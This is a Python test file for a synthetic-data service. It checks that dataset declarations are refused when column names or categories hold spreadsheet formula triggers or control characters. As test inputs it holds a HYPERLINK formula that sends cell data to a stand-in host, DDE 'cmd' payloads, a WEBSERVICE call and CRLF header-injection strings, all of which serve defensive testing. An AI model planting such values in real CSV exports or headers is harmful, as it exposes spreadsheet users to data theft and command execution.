"""What a declaration's names and categories may hold: no control characters (dataset
names, column names, categories), and no spreadsheet formula trigger first (column names
and categories, written as they are into the synthetic CSV) unless the text is a plain
number. New declarations only: a dataset declared before the rule is still read, released
and downloaded (README, "The schema of a table")."""

from __future__ import annotations

import io
import unicodedata
import uuid
from typing import Any

import numpy as np
import pyarrow.csv as pacsv
import pytest
from fastapi.testclient import TestClient

from app.models import Dataset
from tests.conftest import Caller
from tests.datasets.helpers import SCHEMA, csv_bytes, upload, with_columns
from tests.datasets.test_graphs import upload_graph
from tests.datasets.test_upload import assert_nothing_stored
from tests.releases.helpers import finished_release, services_of

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
AS_FORMULA = "a spreadsheet opening the synthetic CSV would run it as a formula"
AGE, WEIGHT, BLOOD, SMOKER = SCHEMA["columns"]


def _named(column: dict[str, Any], name: str) -> dict[str, Any]:
    return {**column, "name": name}


def _blood(*categories: Any) -> dict[str, Any]:
    return {**BLOOD, "categories": list(categories)}


def _controls(text: str) -> list[str]:
    return [c for c in text if unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp"}]


@pytest.mark.parametrize(
    ("schema", "fragment"),
    [
        pytest.param(
            with_columns(_named(AGE, FORMULA), WEIGHT, BLOOD, SMOKER),
            f"columns.0.name: {FORMULA!r} starts with '=': {AS_FORMULA}",
            id="column-name-equals",
        ),
        pytest.param(
            with_columns(AGE, _named(WEIGHT, "+cmd|' /C calc'!A0"), BLOOD, SMOKER),
            f"columns.1.name: \"+cmd|' /C calc'!A0\" starts with '+' and holds '|': {AS_FORMULA}",
            id="column-name-plus",
        ),
        pytest.param(
            # DDE after a sum: a sign first does not make it a number
            with_columns(AGE, WEIGHT, BLOOD, _named(SMOKER, "-2+3+cmd|' /C calc'!A0")),
            f"columns.3.name: \"-2+3+cmd|' /C calc'!A0\" starts with '-' and holds '|': "
            f"{AS_FORMULA}",
            id="column-name-minus",
        ),
        pytest.param(
            with_columns(AGE, WEIGHT, _named(BLOOD, "@SUM(A1:A9)"), SMOKER),
            f"columns.2.name: '@SUM(A1:A9)' starts with '@' and holds '(': {AS_FORMULA}",
            id="column-name-at",
        ),
        pytest.param(
            with_columns(_named(AGE, "age\r\nX-Evil: 1"), WEIGHT, BLOOD, SMOKER),
            "columns.0.name: holds a control character (U+000D, at character 4)",
            id="column-name-crlf",
        ),
        pytest.param(
            with_columns(AGE, _named(WEIGHT, "weight\u202egk"), BLOOD, SMOKER),
            "columns.1.name: holds a control character (U+202E, at character 7)",
            id="column-name-bidi-override",
        ),
        pytest.param(
            with_columns(AGE, WEIGHT, _blood("A", "=1+1", "AB", "O"), SMOKER),
            f"columns.2.categories.1 (column 'blood'): '=1+1' starts with '=': {AS_FORMULA}",
            id="category-equals",
        ),
        pytest.param(
            with_columns(AGE, WEIGHT, _blood("A", "B", "-1+WEBSERVICE(A1)", "O"), SMOKER),
            "columns.2.categories.2 (column 'blood'): '-1+WEBSERVICE(A1)' starts with '-' and "
            f"holds '(': {AS_FORMULA}",
            id="category-minus",
        ),
        pytest.param(
            with_columns(AGE, WEIGHT, _blood("A", "B", "AB", "O\tx"), SMOKER),
            "columns.2.categories.3 (column 'blood'): holds a control character (U+0009, "
            "at character 2)",
            id="category-tab",
        ),
        pytest.param(
            with_columns(AGE, WEIGHT, _blood("A\x00", "B", "AB", "O"), SMOKER),
            "columns.2.categories.0 (column 'blood'): holds a control character (U+0000",
            id="category-nul",
        ),
        pytest.param(
            with_columns(AGE, WEIGHT, _blood("A", "B\u2028C", "AB", "O"), SMOKER),
            "columns.2.categories.1 (column 'blood'): holds a control character (U+2028",
            id="category-line-separator",
        ),
        pytest.param(
            with_columns(name="inj\r\nX-Evil: 1"),
            "schema.name: holds a control character (U+000D, at character 4)",
            id="dataset-name-crlf",
        ),
        pytest.param(
            with_columns(name="patients\x1b[31m"),
            "schema.name: holds a control character (U+001B, at character 9)",
            id="dataset-name-escape",
        ),
    ],
)
def test_a_declared_name_or_category_a_spreadsheet_or_terminal_would_act_on_is_422(
    client: TestClient, curator: Caller, schema: dict[str, Any], fragment: str
) -> None:
    response = upload(client, curator, csv_bytes(), schema)
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["code"] == "invalid_request"
    assert fragment in error["message"], error["message"]
    assert _controls(error["message"]) == []  # named by code point, never echoed
    assert_nothing_stored(client)


def test_a_graph_name_with_a_control_character_is_422(client: TestClient, curator: Caller) -> None:
    schema = {"name": "g\r\nX-Evil: 1", "kind": "graph", "vertices": 3, "budget": {"epsilon": 1}}
    response = upload_graph(client, curator, b"0 1\n1 2\n", schema)
    assert response.status_code == 422, response.text
    message = response.json()["error"]["message"]
    assert "schema.name: holds a control character (U+000D, at character 2)" in message
    assert _controls(message) == []
    assert_nothing_stored(client)


def test_plain_numbers_and_ordinary_text_are_declared_as_they_are(
    client: TestClient, curator: Caller
) -> None:
    """A sign first is fine when the whole text is a plain number (a spreadsheet reads
    -1 and +2.5 as numbers) or holds no function or program call (a rhesus factor's + and
    -, a binned range, a count with a thousands separator: data that tables hold), and a
    trigger anywhere but first is ordinary text (review of the first rule, which refused
    every one of these)."""
    signs = ["+", "-", "-10 to -5", "-1,000", "@home", "+/-"]
    categories = ["-1", "+2.5", "-.5", "+1e3", -7, "a=b", "x-y", "e@mail", *signs]
    schema = {
        "name": "  -signed  ",
        "columns": [
            {"name": "-1", "kind": "continuous", "lower": -5, "upper": 5},
            {"name": "c", "kind": "categorical", "categories": categories},
            {"name": "Ada \U0001f469\u200d\U0001f4bb", "kind": "binary"},
        ],
        "budget": {"epsilon": 1},
    }
    cells = ["-1", "+2.5", "-.5", "+1e3", "-7", "a=b", "x-y", "e@mail", "+", "-"]
    cells += ["-10 to -5", '"-1,000"', "@home", "+/-"]
    rows = [f"{i % 5},{cell},{i % 2}" for i, cell in enumerate(cells)]
    header = "-1,c,Ada \U0001f469\u200d\U0001f4bb"
    response = upload(client, curator, csv_bytes(header, rows), schema)
    assert response.status_code == 201, response.text
    body = response.json()
    assert body["name"] == "-signed"
    assert [c["name"] for c in body["columns"]] == ["-1", "c", "Ada \U0001f469\u200d\U0001f4bb"]
    assert body["columns"][1]["categories"] == categories


def test_a_dataset_declared_before_the_rule_is_read_released_and_downloaded(
    client: TestClient, curator: Caller, analyst: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The rule is the declaration's, not the column types': those also read stored
    declarations (DatasetOut, a release's columns), which may predate it. Such a dataset is
    listed, read, released from and downloaded as declared (no 500), its CSV carrying its
    names as they are and its categories quoted where a spreadsheet would read them as
    formulas (README)."""
    n = 300
    rng = np.random.default_rng(3)
    ages = rng.uniform(0, 100, n).round(2)
    kinds = rng.choice(["=1+1", "@x", "ok"], n)
    content = f'"{FORMULA.replace(chr(34), chr(34) * 2)}",@risk\n' + "".join(
        f"{a},{k}\n" for a, k in zip(ages, kinds, strict=True)
    )
    schema = {
        "name": "old",
        "columns": [
            {"name": FORMULA, "kind": "continuous", "lower": 0, "upper": 100},
            {"name": "@risk", "kind": "categorical", "categories": ["=1+1", "@x", "ok"]},
        ],
        "budget": {"epsilon": 10},
    }
    # declared as before the rule: through the service with its check switched off, and
    # the name written into the database (as a dataset stored before the rule holds it)
    monkeypatch.setattr("app.datasets.schemas.declared_text_error", lambda text: None)
    uploaded = upload(client, curator, content.encode(), schema)
    monkeypatch.undo()
    assert uploaded.status_code == 201, uploaded.text
    dataset_id = uploaded.json()["id"]
    old_name = "inj\r\nX-Evil: 1"
    with services_of(client).db.transaction() as session:
        dataset = session.get(Dataset, uuid.UUID(dataset_id))
        assert dataset is not None
        dataset.name = old_name
    assert upload(client, curator, content.encode(), schema).status_code == 422  # the rule

    granted = client.post(
        f"/v1/datasets/{dataset_id}/grants",
        headers=curator.headers,
        json={"user_id": str(analyst.id)},
    )
    assert granted.status_code == 201, granted.text
    for caller in (curator, analyst):
        shown = client.get(f"/v1/datasets/{dataset_id}", headers=caller.headers)
        assert shown.status_code == 200, shown.text
        assert shown.json()["name"] == old_name
        assert [c["name"] for c in shown.json()["columns"]] == [FORMULA, "@risk"]
        assert shown.json()["columns"][1]["categories"] == ["=1+1", "@x", "ok"]
        listed = client.get("/v1/datasets", headers=caller.headers)
        assert listed.status_code == 200, listed.text
        assert [d["name"] for d in listed.json()] == [old_name]

    body = {"mechanism": "randomized_response", "epsilon": 2.0}
    preview = client.post(f"/v1/datasets/{dataset_id}/preview", headers=curator.headers, json=body)
    assert preview.status_code == 200, preview.text
    release_id = finished_release(client, curator, dataset_id, body, reader=analyst)["id"]
    download = client.get(f"/v1/releases/{release_id}/synthetic", headers=analyst.headers)
    assert download.status_code == 200, download.text
    sample = pacsv.read_csv(io.BytesIO(download.content))
    assert sample.column_names == [FORMULA, "@risk"]  # as declared (README)
    # its formula cells quoted, as every CSV's text cells (README; the Parquet file keeps them)
    assert set(sample["@risk"].to_pylist()) <= {"'=1+1", "'@x", "ok"}
    answers = client.post(
        f"/v1/releases/{release_id}/answers",
        headers=analyst.headers,
        json={"queries": [{"type": "conjunction", "where": {"@risk": "=1+1"}}]},
    )
    assert answers.status_code == 200, answers.text
